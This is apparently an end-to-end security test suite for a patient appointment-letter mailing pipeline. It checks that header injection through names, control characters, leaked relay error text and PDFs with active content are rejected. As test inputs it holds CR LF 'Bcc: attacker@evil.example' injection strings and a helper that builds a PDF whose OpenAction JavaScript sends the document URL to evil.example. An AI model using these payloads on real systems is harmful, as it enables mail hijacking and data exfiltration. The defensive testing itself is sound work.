"""Issue #7 items 1, 11 and 13, attacked from outside through the real relay (aiosmtpd) and the bus:
header/envelope injection through a patient's name, outside text in failure reports, PDFs with
active content."""

from __future__ import annotations

import asyncio
import io
import json
import uuid
from datetime import datetime, timedelta, timezone

import pytest
from aiosmtpd.controller import Controller
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from devstack.sample import sample_pdf
from devstack.stack import free_port
from issuer import domain
from shared.contracts import ConvocationCreatedV1, Envelope, envelope
from shared.settings import _decode_key, dev_key
from tests.e2e.test_portal_helpers import letter
from tests.patient import csrf_of

pytestmark = pytest.mark.e2e
ATTACKER = "attacker@evil.example"
INJECTING_NAMES = ["Marie\r\n Bcc: attacker@evil.example", "Marie\r\nBcc: attacker@evil.example", "Marie\nDupont"]


def all_recipients(chain) -> set[str]:
    return {rcpt for mail in chain.inbox.emails() for rcpt in mail["rcpt_tos"]}


@pytest.mark.parametrize("name", INJECTING_NAMES)
async def test_a_name_with_a_line_break_is_dead_lettered_and_never_adds_a_recipient(chain, name):
    queue = f"{chain.exchange}.issuer.convocation.created.v1"
    event = chain.event()
    event["data"]["patient"]["name"] = name
    await chain.publish(event)
    parked = await chain.dead_letters(queue, {event["event_id"]})
    assert parked[event["event_id"]].headers["x-rejected-reason"] == "invalid-event"
    detail = parked[event["event_id"]].headers["x-rejected-detail"]
    assert "data.patient.name" in detail and "control character (U+000" in detail
    assert "Bcc" not in detail and "attacker" not in detail  # the detail names the field, never the value

    good = chain.event()  # the chain behind it goes on; by then a mail for the bad one would have left
    await chain.publish(good)
    await chain.email_to(good["data"]["patient"]["email"])
    assert ATTACKER not in all_recipients(chain)
    assert not chain.emails_to(event["data"]["patient"]["email"])


@pytest.mark.parametrize("field", ["place.address", "department.name", "department.secretariat_phone"])
async def test_control_characters_are_refused_in_every_single_line_field(chain, field):
    event = chain.event()
    group, key = field.split(".")
    event["data"]["appointment"][group][key] = "Rue\x85 du Lac 1\tB"  # NEL: a line break to some readers
    await chain.publish(event)
    parked = await chain.dead_letters(f"{chain.exchange}.issuer.convocation.created.v1", {event["event_id"]})
    assert f"data.appointment.{field}" in parked[event["event_id"]].headers["x-rejected-detail"]


async def test_instructions_keep_their_line_breaks(chain):
    """The one multi-line field is accepted with its line breaks and tab, and the patient reads it, after
    the code, line by line on the appointment page."""
    mail = await letter(chain, instructions="Venez à jeun.\r\nApportez vos médicaments.\n\tMerci.")
    await mail.log_in()
    page = mail.patient.get(f"{mail.path}/document")
    shown = mail.patient.post(f"{mail.path}/appointment", {"csrf": csrf_of(page.text), "k": mail.patient.secret})
    assert shown.status_code == 200, shown.text
    # The page's script sets it as text into <dd class="instructions"> (white-space: pre-line).
    assert shown.json()["instructions"].splitlines() == ["Venez à jeun.", "Apportez vos médicaments.", "\tMerci."]


async def test_the_mailer_takes_the_envelope_from_the_message_not_from_its_headers(chain):
    """Defence in depth: an email.requested whose sealed name carries CR LF (a producer that slipped
    past the contracts) is parked by the mailer; nothing goes to the injected address."""
    event = chain.event()
    convocation = Envelope[ConvocationCreatedV1].model_validate(event).data
    evil = convocation.model_copy(
        update={"patient": convocation.patient.model_copy(update={"name": "Marie\r\n Bcc: attacker@evil.example"})}
    )
    keys = domain.SealingKeys(
        seal_keys={"k1": _decode_key(dev_key("seal-k1"))},
        patient_ref_key=_decode_key(dev_key("patient-ref")),
        mailer_field_key=_decode_key(dev_key("mailer-field")),
        portal_field_key=_decode_key(dev_key("portal-field")),
    )
    expires_at = datetime.now(timezone.utc) + timedelta(days=30)
    sealed = domain.seal_convocation(
        evil, sample_pdf(), keys, send_email=True, expires_at=expires_at, period=await chain.period_key(expires_at)
    )
    message = json.loads(
        envelope(sealed.email, producer="issuer", correlation_id=convocation.convocation_id).model_dump_json()
    )
    await chain.publish(message)
    queue = f"{chain.exchange}.mailer.email.requested.v1"
    parked = await chain.dead_letters(queue, {message["event_id"]})
    assert parked[message["event_id"]].headers["x-rejected-reason"] == "unsafe-header"
    good = chain.event()
    await chain.publish(good)
    await chain.email_to(good["data"]["patient"]["email"])
    assert ATTACKER not in all_recipients(chain) and not chain.emails_to(event["data"]["patient"]["email"])


class EchoingRelay:
    """A relay that refuses every message with a reply quoting its To: header (name and address)."""

    def __init__(self) -> None:
        self.refused = 0

    async def handle_DATA(self, server, session, envelope):
        to = next(line for line in envelope.content.decode().splitlines() if line.startswith("To:"))
        self.refused += 1
        return f"554 5.7.1 Message refused for {to[3:].strip()} ({envelope.rcpt_tos[0]})"


async def test_a_failed_mail_leaves_no_name_or_address_in_logs_tables_or_reports(chain):
    name = f"Zoé Quaglia-{uuid.uuid4().hex[:6]}"  # unique: found only if something copied it
    relay, port = EchoingRelay(), free_port()
    controller = Controller(relay, hostname="127.0.0.1", port=port)
    controller.start()
    stack = chain.stack
    saved = dict(stack.extra_env.get("mailer", {}))
    stack.extra_env["mailer"] = {**saved, "SMTP_PORT": str(port)}
    stack.stop(["mailer"])
    stack.start(["mailer"])
    try:
        event = chain.event()
        event["data"]["patient"]["name"] = name
        address = event["data"]["patient"]["email"]
        cid = event["data"]["convocation_id"]
        await chain.publish(event)
        reports = await chain.upstream(
            "convocation.status.v1", cid, until=lambda es: any(e["data"]["status"] == "bounced" for e in es)
        )
    finally:
        stack.extra_env["mailer"] = saved
        stack.stop(["mailer"])
        stack.start(["mailer"])
        controller.stop()
    assert relay.refused == 1
    bounced = next(e for e in reports if e["data"]["status"] == "bounced")
    assert bounced["data"]["detail"] == "554 relay-refused 5.7.1"  # the code, never the relay's text
    row = await chain.db.fetchrow(
        "select last_code, last_error from mailer.email where convocation_id = $1", uuid.UUID(cid)
    )
    assert dict(row) == {"last_code": 554, "last_error": "relay-refused 5.7.1"}
    history = await chain.db.fetch("select detail from issuer.status_history where convocation_id = $1", uuid.UUID(cid))
    everything = "\n".join(
        [await chain.dump_all_tables(), stack.logs(), json.dumps(reports), *(str(h["detail"]) for h in history)]
    )
    for leaked in (name, name.split()[1], address, address.split("@")[0], "Message refused for"):
        assert leaked not in everything


def pdf_with_open_action_javascript() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(sample_pdf("Convocation")))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://evil.example/?'+this.URL)"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


async def test_an_upstream_pdf_with_open_action_javascript_is_dead_lettered(chain):
    event = chain.event(pdf=pdf_with_open_action_javascript())
    await chain.publish(event)
    parked = await chain.dead_letters(f"{chain.exchange}.issuer.convocation.created.v1", {event["event_id"]})
    headers = parked[event["event_id"]].headers
    assert headers["x-rejected-reason"] == "pdf-active-content"
    assert "/OpenAction JavaScript" in headers["x-rejected-detail"]
    await asyncio.sleep(0.5)
    assert await chain.status(event["data"]["convocation_id"]) is None  # nothing sealed, nothing sent
    assert not chain.emails_to(event["data"]["patient"]["email"])
